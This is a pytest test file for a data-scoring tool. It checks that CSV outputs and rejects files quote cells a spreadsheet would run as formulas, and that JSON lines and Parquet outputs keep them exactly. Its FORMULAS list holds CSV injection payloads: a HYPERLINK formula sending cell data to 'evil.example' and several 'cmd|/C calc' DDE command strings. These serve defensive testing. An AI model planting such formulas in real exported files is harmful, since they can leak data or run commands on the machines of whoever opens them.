"""What a cell of the input may carry into an output file.

CSV outputs and rejects quote a text cell a spreadsheet would run as a formula (OWASP's advice
on CSV injection: a leading ``'``) unless ``--raw-csv-cells`` is given; a plain number such as
``-1.5`` or ``+19`` is not a formula and stays as it is; JSON lines and Parquet stay exact. A
Parquet column that a CSV file cannot hold (nested, binary) is refused with one line before
anything is scored.
"""

from __future__ import annotations

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from .scoring_support import error_lines, read_rows

pytest_plugins = ("tests.scoring_support",)  # the score fixture

FIELDS = {
    "age": 19,
    "sex": "female",
    "bmi": 27.9,
    "children": 0,
    "smoker": "yes",
    "region": "southwest",
}

# From OWASP's "CSV Injection" page and its variants: each starts a formula in Excel, LibreOffice
# or Google Sheets (a tab or a carriage return is stripped first).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
    "+",
    "@",
]
NOT_FORMULAS = ["-1.5", "+19", "-0", "1e5", "-2.5e-3", ".5", "P-001", "a=b", "", " =1"]


def write_input(path, ids: list[str], fmt: str, bad: bool = False) -> None:
    rows = [{"id": i, **FIELDS, "age": "x" if bad else 19} for i in ids]
    if fmt == "csv":
        with open(path, "w", newline="") as f:
            writer = csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(list(rows[0]))
            writer.writerows([[str(v) for v in row.values()] for row in rows])
    elif fmt == "jsonl":
        path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    else:
        pq.write_table(pa.Table.from_pylist([{**r, "age": str(r["age"])} for r in rows]), path)


def ids_written(path) -> list[str]:
    with open(path, newline="") as f:
        return [row["id"] for row in csv.DictReader(f)]


@pytest.mark.parametrize("source", ["csv", "jsonl", "parquet"])
def test_a_formula_in_a_text_cell_is_quoted_in_a_csv_output_and_numbers_are_left_alone(
    score, tmp_path, source
):
    write_input(tmp_path / f"in.{source}", FORMULAS + NOT_FORMULAS, source)
    status, _, err = score(tmp_path / f"in.{source}", "-o", tmp_path / "out.csv")
    assert status == 0, err
    assert ids_written(tmp_path / "out.csv") == ["'" + f for f in FORMULAS] + NOT_FORMULAS
    with open(tmp_path / "out.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert all(float(r["estimate"]) > 0 for r in rows)  # numbers stay numbers


@pytest.mark.parametrize(
    "source, rejects", [("csv", None), ("csv", "rejects.csv"), ("parquet", None)]
)
def test_a_formula_in_a_rejected_row_is_quoted_in_a_csv_rejects_file(
    score, tmp_path, source, rejects
):
    write_input(tmp_path / f"in.{source}", FORMULAS, source, bad=True)
    args = ["--rejects", tmp_path / rejects] if rejects else []
    status, _, _ = score(tmp_path / f"in.{source}", "-o", tmp_path / "out.csv", *args)
    assert status == 1
    assert ids_written(tmp_path / (rejects or "out.rejects.csv")) == ["'" + f for f in FORMULAS]


def test_text_that_is_no_record_and_a_key_named_as_a_field_are_quoted_in_csv_rejects(
    score, tmp_path
):
    first = dict(FIELDS, id=0)
    lines = [json.dumps(first), "=cmd|'/C calc'!A0", json.dumps({**first, "@SUM(A1)": 1})]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n")
    status, _, _ = score(tmp_path / "in.jsonl", "-o", tmp_path / "out.csv")
    assert status == 1
    rejects = read_rows(tmp_path / "out.rejects.csv")
    assert [(r["line"], r["fields"], r["record"][:3]) for r in rejects] == [
        ("2", "", "'=c"),
        ("3", "'@SUM(A1)", '{"a'),
    ]


def test_a_header_name_that_is_a_formula_is_quoted_too(score, tmp_path):
    (tmp_path / "in.csv").write_text(
        "=cmd|'/C calc'!A0,age,sex,bmi,children,smoker,region\nx,19,female,27.9,0,yes,southwest\n"
    )
    status, _, _ = score(tmp_path / "in.csv", "-o", tmp_path / "out.csv")
    assert status == 0
    header = (tmp_path / "out.csv").read_text().splitlines()[0]
    assert header.startswith("'=cmd|'/C calc'!A0,age,")


@pytest.mark.parametrize("target", ["jsonl", "parquet"])
def test_json_lines_and_parquet_outputs_keep_every_cell_exactly(score, tmp_path, target):
    write_input(tmp_path / "in.csv", FORMULAS + NOT_FORMULAS, "csv")
    status, _, err = score(tmp_path / "in.csv", "-o", tmp_path / f"out.{target}")
    assert status == 0, err
    assert [r["id"] for r in read_rows(tmp_path / f"out.{target}")] == FORMULAS + NOT_FORMULAS


def test_raw_csv_cells_writes_every_cell_exactly_as_read(score, tmp_path):
    write_input(tmp_path / "in.csv", FORMULAS, "csv", bad=False)
    write_input(tmp_path / "bad.csv", FORMULAS, "csv", bad=True)
    for source in ("in", "bad"):
        score(tmp_path / f"{source}.csv", "-o", tmp_path / f"{source}.out.csv", "--raw-csv-cells")
    assert ids_written(tmp_path / "in.out.csv") == FORMULAS
    assert ids_written(tmp_path / "bad.out.rejects.csv") == FORMULAS


UNWRITABLE = {
    "struct": pa.array([{"a": 1}]),
    "list": pa.array([[1, 2]]),
    "map": pa.array([[("a", 1)]], pa.map_(pa.string(), pa.int64())),
    "binary": pa.array([b"\x00\xff"]),
    "large_binary": pa.array([b"ok"], pa.large_binary()),
}


@pytest.mark.parametrize("kind", UNWRITABLE)
@pytest.mark.parametrize(
    "where", [["-o", "out.csv"], ["-o", "out.parquet", "--rejects", "rejects.csv"]]
)
def test_a_parquet_column_a_csv_file_cannot_hold_is_one_error_line_before_scoring(
    score, tmp_path, monkeypatch, kind, where
):
    table = pa.table({**{k: [v] for k, v in FIELDS.items()}, "extra": UNWRITABLE[kind]})
    pq.write_table(table, tmp_path / "in.parquet")
    monkeypatch.chdir(tmp_path)
    status, _, err = score("in.parquet", *where)
    assert status == 2 and len(error_lines(err)) == 1, err
    what = "output" if where[1] == "out.csv" else "rejects"
    stored = pq.read_schema(tmp_path / "in.parquet").field("extra").type
    assert error_lines(err) == [
        f"Error: in.parquet has a column a CSV file cannot hold: 'extra' ({stored}); write the "
        f"{what} as Parquet or JSON lines (--format, --rejects), or leave the column out of the "
        "input"
    ]
    assert '"start"' not in err  # refused before the model is loaded
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.parquet"]


@pytest.mark.parametrize("kind", UNWRITABLE)
def test_a_nested_or_binary_parquet_column_goes_to_parquet_exactly(score, tmp_path, kind):
    table = pa.table({**{k: [v] for k, v in FIELDS.items()}, "extra": UNWRITABLE[kind]})
    pq.write_table(table, tmp_path / "in.parquet")
    status, _, err = score(tmp_path / "in.parquet", "-o", tmp_path / "out.parquet")
    assert status == 0, err
    assert pq.read_table(tmp_path / "out.parquet").column("extra").equals(table.column("extra"))
